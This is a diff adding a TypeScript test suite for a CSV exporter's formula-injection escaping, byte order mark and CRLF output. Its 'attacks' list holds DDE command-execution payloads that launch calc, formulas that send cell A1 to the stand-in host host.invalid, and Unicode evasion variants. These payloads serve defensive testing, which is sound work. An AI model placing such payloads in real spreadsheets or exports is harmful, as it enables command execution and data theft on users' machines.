@@ -1,0 +1,199 @@
+import fc from 'fast-check'
+import Papa from 'papaparse'
+import { describe, expect, it } from 'vitest'
+import { csvContent } from '@/files/csvContent'
+import { csvText } from '@/files/csvText'
+import { unmarked } from '@/files/marks'
+import { anyText, fields, fileOf } from './fixture'
+
+/** Cells as another reader of CSV files sees them. */
+const cellsOf = (text: string) =>
+  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data
+
+/** What a spreadsheet runs, asks another host with, or hands to the machine. */
+const attacks = [
+  '=1+1',
+  '=SUM(A1:A9)',
+  '=HYPERLINK("https://host.invalid/?x="&A1,"查看")',
+  '=WEBSERVICE("https://host.invalid/"&A1)',
+  '=IMPORTXML(CONCAT("https://host.invalid/",A1),"//a")',
+  '=IMPORTDATA("https://host.invalid")',
+  '=IMAGE("https://host.invalid/a.png")',
+  "=cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"x")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+  "=10+20+cmd|' /C calc'!A0",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  '={1,2}',
+  '==1',
+  '=',
+  '+1+1',
+  '+86 154****0001',
+  '++1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  '-',
+  "-2+3+cmd|' /C calc'!A0",
+  '--1',
+  '−=1'.slice(1),
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '@handle',
+  '@',
+  '\t=1+1',
+  '\t1',
+  '\r=1+1',
+  '\rtext',
+  '\n=1+1',
+  '\ntext',
+  '\r\n=1',
+  '\0=1',
+  '\0',
+  ' =1+1',
+  '   @SUM(A1)',
+  '\u00A0=1',
+  '\u3000=1',
+  '\u200B=1',
+  '\uFEFF=1',
+  '\u202E=1',
+  '\u0007=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '　＝1',
+  '﹦1',
+  '﹢1',
+  '﹣1',
+  '﹫a',
+  '=1\n=2',
+  '"=1"'.slice(1),
+  "'=1",
+  "''=1",
+  "'\t=1",
+] as const
+
+/** What only looks a little like it, and must be left as it is. */
+const harmless = [
+  '',
+  'a=1',
+  'a@example.com',
+  '1-2',
+  '2024-06-01',
+  '12345678901',
+  '0',
+  '0.5',
+  "'quoted'",
+  "it's",
+  "'",
+  '（=1）',
+  '154****0001',
+  '"=1"',
+  '、=1',
+  '收货地址：上海',
+  '1E',
+  'E10',
+] as const
+
+const codes = ['123456789012', '8800000000000000123', '00123', '007', '00', '12E5', '1e10'] as const
+
+/** What a spreadsheet would make something else of. */
+const dangerous = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n\0]|^\d{12,}$|^0\d+$/u
+
+describe('a text in a CSV file', () => {
+  it('is tried with at least forty attacks', () => {
+    expect(new Set(attacks).size).toBeGreaterThanOrEqual(40)
+  })
+
+  it.each(attacks)('%j is no formula: an apostrophe stands before it', (attack) => {
+    expect(cellsOf(csvText([['x', attack, 'y']]))).toEqual([['x', `'${attack}`, 'y']])
+  })
+
+  it.each(harmless)('%j is left as it is', (text) => {
+    expect(cellsOf(csvText([['x', text, 'y']]))).toEqual([['x', text, 'y']])
+  })
+
+  it.each(codes)('%j is no number: a tab stands behind it', (code) => {
+    expect(cellsOf(csvText([['x', code, 'y']]))).toEqual([['x', `${code}\t`, 'y']])
+  })
+
+  it('begins with a byte order mark, and its lines end in CRLF', () => {
+    expect(
+      csvText([
+        ['订单号', '备注'],
+        ['1', 'a,"b"'],
+      ]),
+    ).toBe('\uFEFF订单号,备注\r\n1,"a,""b"""\r\n')
+    expect(csvText([])).toBe('\uFEFF')
+  })
+
+  it('is read back by any reader, whatever it is, with at most one mark', () => {
+    const text = fc.oneof(
+      anyText,
+      fc.string({ unit: fc.constantFrom(...'=+-@\'\t\r\n "，,;＝0123456789eE') }),
+    )
+    fc.assert(
+      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 })), (rows) => {
+        const read = Papa.parse<string[]>(csvText(rows).slice(1), {
+          delimiter: ',',
+          newline: '\r\n',
+        }).data.slice(0, -1)
+        expect(read.map((cells) => cells.length)).toEqual(rows.map((cells) => cells.length))
+        const seen = read.flat()
+        const bad = rows.flat().filter((cell, at) => {
+          const shown = seen[at] ?? ''
+          const isMarked = shown === cell || shown === `'${cell}` || shown === `${cell}\t`
+          return !isMarked || dangerous.test(shown) || unmarked(shown) !== cell.trim()
+        })
+        expect(bad).toEqual([])
+      }),
+      { numRuns: 50 },
+    )
+  })
+})
+
+describe('a written CSV file', () => {
+  const written = async (record: Record<string, string | number | boolean | null>) => {
+    const content = csvContent(fileOf('csv'))
+    content.write(0, [record])
+    const [header, row] = cellsOf(await (await content.finish()).text())
+    return { header, row }
+  }
+
+  it('has its numbers and times without marks, its codes and texts with them', async () => {
+    const { header, row } = await written({
+      tid: '8800000000000000123',
+      fee: -12_900,
+      price: 999_999_999_999_999,
+      count: -3,
+      share: -38,
+      paid: 1_717_200_059,
+      until: '2024-02-29',
+      open: false,
+      state: 'NEW',
+      memo: '-1',
+      note: '＝1',
+    })
+    expect(header).toEqual(Object.keys(fields).map((name) => `列 ${name}`))
+    expect(row).toEqual([
+      ...['8800000000000000123\t', '-129.00', '999999999999.999', '-3', '-0.38%'],
+      ...['2024-06-01 08:00:59', '2024-02-29', '否', 'NEW', "'-1", "'＝1"],
+    ])
+  })
+
+  it('has what is not of its kind as text', async () => {
+    const { row } = await written({
+      fee: '=1',
+      count: '-1',
+      paid: '+1',
+      until: '@1',
+      state: '=2',
+      open: null,
+    })
+    expect(row).toEqual(['', "'=1", '', "'-1", '', "'+1", "'@1", '', "'=2", '', ''])
+  })
+
+  it('begins with the byte order mark, in bytes', async () => {
+    const file = await csvContent(fileOf('csv')).finish()
+    expect([...new Uint8Array(await file.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+  })
+})
